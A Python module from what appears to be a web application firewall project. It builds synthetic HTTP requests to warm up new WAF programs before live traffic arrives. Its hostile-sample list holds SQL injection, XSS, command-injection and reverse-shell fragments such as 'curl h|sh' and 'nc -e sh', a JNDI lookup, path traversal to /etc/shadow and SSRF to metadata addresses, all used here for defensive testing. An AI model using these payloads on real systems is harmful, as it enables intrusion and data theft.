"""Exchanges that a new program judges before traffic comes.

Automata grow with what they read, and plans are made for what is seen: the first requests cost several times what
the later ones do.  So some of all kinds are made up here, ordinary and hostile, the same in every process.
"""

from __future__ import annotations

import json
import random
import string
import time
from collections.abc import Iterator
from xml.sax.saxutils import escape

from waf_core.exchange import Exchange, Headers, run
from waf_core.persistence.buffered import BufferedStore
from waf_core.scan.sample import SAMPLE
from waf_core.waf import WAF

WARM_SECONDS = 0.7
"""No longer than this for all programs, however slow the machine and however many there are."""

ROUNDS = 16

TIRING_ROUNDS = 8
"""Of these, with what costs most."""

NOISE_BYTES = 16384

CROWD = 48
"""Values of one request that are many."""

FORM = "application/x-www-form-urlencoded"

_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{0}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{0}.0) Gecko/20100101 Firefox/{0}.0",
    "okhttp/4.{0}",
)
_HOSTILE = (
    # SQL
    "' or '1'='1", '" and 1=2--', "1; drop table x", "union all select null,null", "waitfor delay '0:0:5'",
    "' group by x having 1<2", "admin'#", "1 order by 9 desc", "extractvalue(1,concat(0x7e,version()))", "sleep(5)",
    "xp_cmdshell 'x'", "/*!50000 x*/", "select @@version", "insert into t values(1)", "') or (1=1", '{"$ne":null}',
    # Scripts and markup
    "<svg onload=alert(1)>", "<a href=x>", "javascript:x", "<script src=//h/x.js></script>", "<img src=x onerror=f()>",
    "document.cookie", "<iframe srcdoc=x>", "expression(x)", "eval(atob('eA'))", "&#x3c;", "&gt;", "\\u0027", "\\x3c",
    # Commands and code
    "; ls -la", "| id", "$(uname)", "`whoami`", "&& wget http://h/x -O-", "/bin/bash -i", "powershell -enc x",
    "cat$IFS/etc/hosts", "curl h|sh", "nc -e sh", "<?php echo 1 ?>", "system('id')", "base64_decode(x)", "<%= x %>",
    "${jndi:ldap://a/b}", "java.lang.Runtime", "require('child_process')", "__import__('os')", "process.env", "{{3*3}}",
    'O:3:"abc":0:{}', "=cmd|' /C calc'!A0",
    # Files, headers and addresses
    "../../../etc/shadow", "..\\..\\windows\\win.ini", "file:///etc/hosts", "php://filter/read=x", "%252e%252e", "\0",
    "WEB-INF/web.xml", ".git/config", "%0d%0aX: y", "http://127.0.0.1/", "http://169.254.169.254/",
)  # fmt: skip
_SAMPLE = SAMPLE.decode("ascii").split("\n")


def warm(*wafs: WAF) -> int:
    """Judge them; nothing is kept of it but speed.  Returns how many."""
    deadline = time.monotonic() + WARM_SECONDS
    count = 0
    for waf in wafs:
        for exchange in _exchanges(random.Random(1)):
            if time.monotonic() > deadline:
                break
            run(waf, exchange, store=BufferedStore())
            count += 1
        for patterns in waf.program.pattern_sets:
            patterns.foresee()
        waf.program.statistics.take()
    return count


def _exchanges(rng: random.Random) -> Iterator[Exchange]:
    special = rng.sample(string.punctuation, len(string.punctuation))
    for number in range(ROUNDS):
        query = f"page={rng.randrange(99)}&q={_quoted(rng.choice(_SAMPLE))}&id={_word(rng)}"
        yield _exchange(rng, query)
        fields = "&".join(f"f{i}={_quoted(rng.choice(_SAMPLE))}" for i in range(8))
        yield _exchange(rng, query, FORM, fields.encode())
        value = {"id": rng.randrange(10**6), "tags": [_word(rng), rng.choice(_SAMPLE)], "note": rng.choice(_SAMPLE)}
        yield _exchange(rng, "", "application/json", json.dumps({"items": [value] * 3}).encode())
        part = f'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n{rng.choice(_SAMPLE)}\r\n--b--\r\n'
        yield _exchange(rng, "", "multipart/form-data; boundary=b", part.encode())
        items = "".join(f'<item id="{rng.randrange(99)}">{escape(rng.choice(_SAMPLE))}</item>' for _ in range(3))
        yield _exchange(rng, "", "text/xml", f"<order>{items}</order>".encode())
        texts = [rng.choice(_HOSTILE) + rng.choice(_HOSTILE) for _ in range(6)]
        texts += ["".join(rng.choices(string.printable, k=rng.randrange(4, 40))) for _ in range(6)]
        yield _exchange(rng, "&".join(f"a{i}={_quoted(text)}" for i, text in enumerate(texts[:3])))
        yield _exchange(rng, "", FORM, _fields(texts))
        yield _exchange(rng, "", "application/json", json.dumps(texts).encode())
        yield _exchange(rng, "", cookie=_cookies(texts))
        yield _exchange(rng, "", FORM, b"a=" + rng.randbytes(200))
        if number < TIRING_ROUNDS:
            yield from _tiring(rng, special[number::TIRING_ROUNDS])


def _tiring(rng: random.Random, special: list[str]) -> Iterator[Exchange]:
    """What costs most when it is new: many short values with few special characters, long texts of all that is hostile,
    and noise."""
    for half, size in enumerate((5, 9)):
        alphabet = "".join(rng.sample(string.ascii_letters + string.digits, 9) + special[half::2] + ["%"])
        texts = ["".join(rng.choices(alphabet, k=size)) for _ in range(CROWD)]
        yield _exchange(rng, "", FORM, _fields(texts))
        yield _exchange(rng, "", cookie=_cookies(texts))
    texts = [f"{text}{rng.randrange(10**6)}" for text in rng.choices(_HOSTILE, k=CROWD)]
    yield _exchange(rng, "", cookie=_cookies(texts))
    yield _exchange(rng, "", FORM, _fields(texts))
    text = "".join(texts)
    yield _exchange(rng, "", "application/json", json.dumps({"a": text}).encode())
    inmost = escape(text.replace("\0", ""))
    yield _exchange(rng, "", "text/xml", ("<a>x" * CROWD + inmost + "</a>" * CROWD).encode())
    yield _exchange(rng, f"a={_quoted(text)}", cookie=f"a={text}")
    yield _exchange(rng, "", FORM, b"a=" + rng.randbytes(NOISE_BYTES // 8).replace(b"&", b"_"))
    noise = "".join(rng.choices(string.digits + string.ascii_letters + string.punctuation + " ", k=NOISE_BYTES))
    yield _exchange(rng, "", FORM, b"a=" + noise.replace("&", "").encode())


def _exchange(rng: random.Random, query: str, content_type: str = "", body: bytes = b"", cookie: str = "") -> Exchange:
    cookie = cookie or f"session={_word(rng)}{_word(rng)}; theme=dark; cart={rng.randrange(10**8)}"
    headers: Headers = [
        (b"Host", b"www.example.com"),
        (b"User-Agent", rng.choice(_AGENTS).format(rng.randrange(200)).encode()),
        (b"Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        (b"Accept-Language", b"en-US,en;q=0.5"),
        (b"Accept-Encoding", b"gzip, deflate, br"),
        (b"Referer", f"https://www.example.com/{_word(rng)}/{rng.randrange(10**6)}".encode()),
        (b"Cookie", cookie.encode("latin-1", "replace")),
    ]
    if content_type:
        headers += [(b"Content-Type", content_type.encode()), (b"Content-Length", b"%d" % len(body))]
    # Paths of all lengths: plans are made for ranks of them.
    path = f"/{_word(rng)}/{rng.randrange(10**6)}"[: rng.choice((1, 2, 4, 8, 16, None))]
    page = "<html><head><title>{0}</title></head><body><p>{1}</p></body></html>"
    return Exchange(
        method=b"POST" if content_type else b"GET",
        uri=(f"{path}?{query}" if query else path).encode(),
        headers=headers,
        body=body,
        status=200,
        response_headers=[(b"Content-Type", b"text/html; charset=utf-8")],
        response_body=page.format(rng.choice(_SAMPLE), " ".join(rng.sample(_SAMPLE, 20))).encode(),
        client_ip="192.0.2.1",
    )


def _fields(texts: list[str]) -> bytes:
    return "&".join(f"{i}={_quoted(text)}" for i, text in enumerate(texts)).encode()


def _cookies(texts: list[str]) -> str:
    return "; ".join(f"c{i}={text.replace(';', '')}" for i, text in enumerate(texts))


def _word(rng: random.Random) -> str:
    return "".join(rng.choices(string.ascii_letters + string.digits, k=rng.randrange(4, 20)))


def _quoted(text: str) -> str:
    return "".join(c if c.isalnum() else f"%{ord(c):02X}" for c in text)
